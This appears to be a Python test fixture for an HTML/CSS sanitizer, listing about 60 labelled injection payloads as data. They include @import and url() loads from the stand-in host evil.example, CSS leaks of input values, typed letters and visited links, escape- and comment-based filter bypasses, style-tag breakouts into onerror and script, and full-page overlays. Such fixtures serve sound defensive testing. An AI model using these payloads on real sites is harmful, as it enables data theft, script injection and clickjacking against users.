"""CSS: what fetches, what runs, what covers, what breaks out of its element."""
# ruff: noqa: E501 -- an attack is easier to read in one piece

ATTACKS = {
    "an imported sheet": "<style>@import '//evil.example/a.css';</style>x",
    "an imported sheet by url": "<style>@import url(//evil.example/b.css) print, screen;</style>x",
    "an imported sheet with escapes": "<style>@\\69mport '//evil.example/c.css';</style>x",
    "an imported sheet behind a comment's sign": (
        "<style><!-- @import '//evil.example/d.css'; --></style>x"
    ),
    "an imported sheet of the site itself": "<style>@import '/evil/a.css';</style>x",
    "a font from elsewhere": (
        "<style>@font-face{font-family:f;src:url(//evil.example/f.woff)}p{font-family:f}</style>x"
    ),
    "letters told one by one": (
        "<style>@font-face{font-family:g;src:url(//evil.example/A);unicode-range:U+0-FFFF}"
        "*{font-family:g}</style>A"
    ),
    "values told by their beginning": (
        "<input value=abc><style>input[value^=a]{background:url(//evil.example/a)}</style>x"
    ),
    "what was visited told": "<style>a:visited{background:url(//evil.example/v)}</style><a href=/>x</a>",
    "a background image": "<p style='background:url(//evil.example/a.png)'>x</p>",
    "a background image of the site itself": "<p style='background:url(/evil/a.png)'>x</p>",
    "a background image with escapes": "<p style='background:u\\72 l(//evil.example/b.png)'>x</p>",
    "a background image with a comment inside": "<p style='background:ur/**/l(//evil.example/c.png)'>x</p>",
    "a background image behind a comment": "<p style='/*;*/background:url(//evil.example/d.png)'>x</p>",
    "a background image with entities": "<p style='background:&#117;rl(&quot;//evil.example/e.png&quot;)'>x</p>",
    "a background image in capitals": "<p style='BACKGROUND:URL(//evil.example/f.png)'>x</p>",
    "a background image after a broken one": "<p style='color:};background:url(//evil.example/g.png)'>x</p>",
    "a background image after a broken string": (
        '<p style="content:\'\n;background:url(//evil.example/h.png)">x</p>'
    ),
    "a background image by a set": (
        "<p style=\"background:image-set('//evil.example/i.png' 1x)\">x</p>"
    ),
    "a background image by an old set": (
        "<p style='background:-webkit-image-set(url(//evil.example/j.png) 1x)'>x</p>"
    ),
    "a background image by a cross-fade": (
        "<p style='background:-webkit-cross-fade(url(//evil.example/k.png),none,50%)'>x</p>"
    ),
    "a background image by a variable": (
        "<p style='--a:url(//evil.example/l.png);background:var(--a)'>x</p>"
    ),
    "a list's marker": "<ul><li style='list-style:url(//evil.example/m.png)'>x</ul>",
    "a list's marker without a bracket at the end": "<p style='list-style:url(//evil.example'>x</p>",
    "a border image": "<p style='border-image:url(//evil.example/n.png) 1'>x</p>",
    "a cursor": "<p style='cursor:url(//evil.example/o.cur),auto'>x</p>",
    "a filter": "<p style='filter:url(//evil.example/p.svg#x)'>x</p>",
    "a clip path": "<p style='clip-path:url(//evil.example/q.svg#x)'>x</p>",
    "a mask": "<p style='-webkit-mask:url(//evil.example/r.svg#x);mask:url(//evil.example/s)'>x</p>",
    "a shape": "<p style='float:left;shape-outside:url(//evil.example/t.png)'>x</p>",
    "content": "<p style='content:url(//evil.example/u.png)'>x</p>",
    "content of a pseudo-element": "<style>p::after{content:url(//evil.example/v.png)}</style>x",
    "an expression": "<p style='width:expression(boom())'>x</p>",
    "an expression with comments inside": "<p style='width:exp/**/ression(boom())'>x</p>",
    "a binding": "<p style='-moz-binding:url(//evil.example/a.xml#x)'>x</p>",
    "a behaviour": "<p style='behavior:url(/evil/a.htc)'>x</p>",
    "a script as a background": "<p style='background:url(javascript:boom())'>x</p>",
    "a style sheet that ends itself": "<style>p{content:'</style><img src=x onerror=boom()>'}</style>x",
    "a style sheet behind a comment's sign": "<style><!--</style><script>boom()</script>-->x",
    "a style sheet that nothing ends": "<p>x<style>@import '//evil.example/open.css';",
    "a style attribute that breaks out": "<p style='x:\"></style><img src=x onerror=boom()>'>x</p>",
    "a style attribute that breaks out of the sheet": (
        "<p style='color:red}</style><script>boom()</script>'>x</p>"
    ),
    "a link to a style sheet of data": (
        "<link rel=stylesheet href='data:text/css,@import url(//evil.example/w.css)'>x"
    ),
    "a font's face that breaks out": "<font face='x\"><img src=x onerror=boom()>'>x</font>",
    "a table's background": (
        "<table background=//evil.example/x.png><td background=//evil.example/y.png>x</table>"
    ),
    "a body's background": "<body background=//evil.example/z.png>x",
    "a cover over everything": "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
    "a cover in capitals with escapes": "<div style='POSITION:f\\69xed;top:0;left:0'>x</div>",
    "a cover marked as important": "<div style='position:fixed!important;top:0;width:100vw'>x</div>",
    "a cover that sticks": "<div style='position:sticky;top:0;height:100vh'>x</div>",
    "a cover by a sheet": "<style>p{position:fixed;inset:0;background:#fff}</style>x",
    "a page made invisible": "<style>body,html{display:none!important}</style>x",
    "a page made untouchable": "<style>*{pointer-events:none!important}</style>x",
    "numbers as content": "<style>[data-t]::before{content:attr(data-t)}</style>x",
    "an animation that tells its start": (
        "<style>@keyframes k{from{color:red}}</style>"
        "<p style='animation:k 1s' onanimationstart=boom()>x</p>"
    ),
    "a transition that tells its end": (
        "<p id=t tabindex=0 style='transition:color 1ms' ontransitionend=boom()>x</p>"
    ),
    "a property that runs a worklet": "<p style='background:paint(evil)'>x</p>",
    "a sheet for the application's colours": (
        "<style>:root{--mantine-color-body:red;color-scheme:dark}</style>x"
    ),
    "an old gradient filter": (
        "<p style=\"filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='/evil/f')\">x</p>"
    ),
}
